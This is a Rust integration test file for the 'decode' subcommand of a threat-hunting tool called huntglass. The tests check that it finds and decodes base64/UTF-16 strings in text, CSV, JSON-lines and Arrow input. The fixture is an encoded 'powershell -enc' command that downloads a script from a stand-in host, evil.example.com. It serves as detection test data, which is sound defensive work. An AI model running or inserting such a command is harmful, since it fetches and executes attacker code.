//! Runs `huntglass decode` on text lines, whole text, stdin, CSV, JSON-lines and Arrow input;
//! output formats; progress on big inputs; errors.

use std::sync::Arc;

use arrow_array::{ArrayRef, RecordBatch, StringArray};
use arrow_schema::{DataType, Field, Schema};
use serde_json::Value;

mod common;

/// `powershell -enc` of the UTF-16LE text "iwr http://evil.example.com/a.ps1".
const ENCODED: &str = "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
const DECODED: &str = "iwr http://evil.example.com/a.ps1";

const CLI: common::Subcommand = common::Subcommand("decode");

#[test]
fn stdin_lines_are_records() {
    let input = format!("nothing here\n{ENCODED}\n");
    let rows = CLI.ok_jsonl(&[], Some(&input));
    assert_eq!(rows.len(), 1);
    let r = &rows[0];
    assert_eq!(r["decoded_string"], DECODED);
    assert_eq!(r["src_index"], 1);
    assert_eq!(r["chain"], "base64 > utf16le");
    assert_eq!(r["encoding_type"], "utf-16");
    assert_eq!(r["reference"], serde_json::json!(["", "1.", "1"]));
    assert_eq!(r["Text"], ENCODED);
    assert_eq!(r["layer"], "1");
    assert_eq!(r["parent_layer"], Value::Null);
    assert_eq!(r["stopped_by"], Value::Null);
    assert_eq!(r["md5"].as_str().map(str::len), Some(32));
    assert_eq!(r["sha256"].as_str().map(str::len), Some(64));
    assert!(r.get("input_bytes").is_none());
}

#[test]
fn whole_input_is_one_record_and_base64_may_span_lines() {
    // The reference's candidate rule allows CR/LF inside a run.
    let b64 = "VGhpcyBpcyBhIG11bHRpLWxpbmUgYmFzZTY0IHBheWxvYWQgdGhhdCB3cmFwcyBvdmVyIGxpbmVz";
    let wrapped = format!("{}\n{}\n", &b64[..40], &b64[40..]);
    let rows = CLI.ok_jsonl(&["--whole"], Some(&wrapped));
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(
        rows[0]["decoded_string"],
        "This is a multi-line base64 payload that wraps over lines"
    );
    // Line by line, neither half decodes to that text.
    let rows = CLI.ok_jsonl(&[], Some(&wrapped));
    assert!(rows.iter().all(
        |r| r["decoded_string"] != "This is a multi-line base64 payload that wraps over lines"
    ));
}

#[test]
fn csv_jsonl_and_arrow_tables_by_column() {
    let dir = CLI.temp_dir("tables");
    let csv = dir.join("events.csv");
    std::fs::write(
        &csv,
        format!("Computer,CommandLine\nhost1,cmd.exe /c dir\nhost2,\"{ENCODED}\"\n"),
    )
    .expect("writes");
    let rows = CLI.ok_jsonl(&["--column", "CommandLine", csv.to_str().unwrap()], None);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["src_index"], 1);
    assert_eq!(rows[0]["CommandLine"], ENCODED);
    assert_eq!(rows[0]["decoded_string"], DECODED);
    let message = CLI.failure(&[csv.to_str().unwrap()], None);
    assert!(
        message.contains("several text columns (Computer, CommandLine)"),
        "{message}"
    );

    let jsonl = dir.join("events.jsonl");
    std::fs::write(
        &jsonl,
        format!("{{\"Cmd\": \"plain\"}}\n{{\"Cmd\": null}}\n{{\"Cmd\": \"{ENCODED}\"}}\n"),
    )
    .expect("writes");
    let rows = CLI.ok_jsonl(&["--column", "Cmd", jsonl.to_str().unwrap()], None);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["src_index"], 2);

    let schema = Arc::new(Schema::new(vec![Field::new("Cmd", DataType::Utf8, true)]));
    let array: ArrayRef = Arc::new(StringArray::from(vec![Some(ENCODED), None]));
    let batch = RecordBatch::try_new(schema.clone(), vec![array]).expect("batch");
    let arrow = dir.join("events.arrow");
    std::fs::write(
        &arrow,
        hg_arrow::write_ipc_stream(&schema, &[batch]).expect("ipc"),
    )
    .expect("writes");
    let rows = CLI.ok_jsonl(&[arrow.to_str().unwrap()], None);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["decoded_string"], DECODED);
    let message = CLI.failure(&["--column", "Nope", arrow.to_str().unwrap()], None);
    assert!(
        message.contains("column 'Nope' not found; available columns: Cmd"),
        "{message}"
    );
}

#[test]
fn csv_output_has_a_header_and_one_line_per_layer() {
    let out = CLI.run(&["--format", "csv"], Some(&format!("{ENCODED}\n")));
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).expect("utf-8");
    let mut lines = text.lines();
    let header = lines.next().expect("header");
    assert!(header.starts_with("reference,original_string,file_name,file_type,decoded_string"));
    assert!(header.contains(",src_index,Text,full_decoded_string,layer,"));
    let row = lines.next().expect("a row");
    assert!(row.contains(DECODED), "{row}");
    assert_eq!(lines.next(), None);
    let empty = CLI.run(&["--format", "csv"], Some("nothing\n"));
    assert!(empty.status.success());
    let text = String::from_utf8(empty.stdout).expect("utf-8");
    assert_eq!(text.lines().count(), 1, "header only: {text}");
}

#[test]
fn limits_are_options_and_reported() {
    let mut text = "innermost text of three base64 levels, long enough".to_string();
    for _ in 0..3 {
        text = base64_encode(text.as_bytes());
    }
    let rows = CLI.ok_jsonl(&["--max-depth", "2"], Some(&text));
    assert!(
        rows.iter().any(|r| r["stopped_by"] == "max_depth"),
        "{rows:?}"
    );
    let rows = CLI.ok_jsonl(&[], Some(&text));
    assert_eq!(rows.len(), 3);
    let message = CLI.failure(&["--max-records", "0"], Some("x"));
    assert!(
        message.contains("limit max_records must be at least 1"),
        "{message}"
    );
    let message = CLI.failure(&["--column", "C"], Some("x"));
    assert!(message.contains("--column applies to CSV"), "{message}");
}

#[test]
fn big_inputs_report_progress_on_stderr() {
    let dir = CLI.temp_dir("big");
    let path = dir.join("big.txt");
    let line = "just an ordinary log line without any encoded content in it at all\n";
    let mut text = String::with_capacity(17 << 20);
    while text.len() < (17 << 20) {
        text.push_str(line);
    }
    text.push_str(ENCODED);
    text.push('\n');
    std::fs::write(&path, &text).expect("writes");
    let out = CLI.run(&[path.to_str().unwrap()], None);
    assert!(out.status.success());
    let stderr = String::from_utf8(out.stderr).expect("utf-8");
    assert!(
        stderr.contains("huntglass decode:") && stderr.contains("(100%)"),
        "{stderr}"
    );
    let rows: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 1);
    let quiet = CLI.run(&["--quiet", path.to_str().unwrap()], None);
    assert!(quiet.stderr.is_empty());
}

fn base64_encode(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}
